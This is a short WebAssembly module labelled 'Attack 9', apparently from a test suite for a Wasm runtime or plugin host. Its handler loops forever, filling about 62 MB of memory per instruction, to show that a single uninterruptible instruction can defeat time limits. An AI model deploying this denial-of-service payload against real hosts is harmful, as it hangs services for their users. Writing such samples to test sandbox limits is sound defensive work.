;; Attack 9: one instruction writes 62 MiB, and nothing can interrupt it; here is an endless row of them.
(module
  (memory 1008)
  (func $handle (result i32)
    (loop $again
      (memory.fill (i32.const 65536) (i32.const 7) (i32.const 65000000))
      (br $again))
    unreachable))
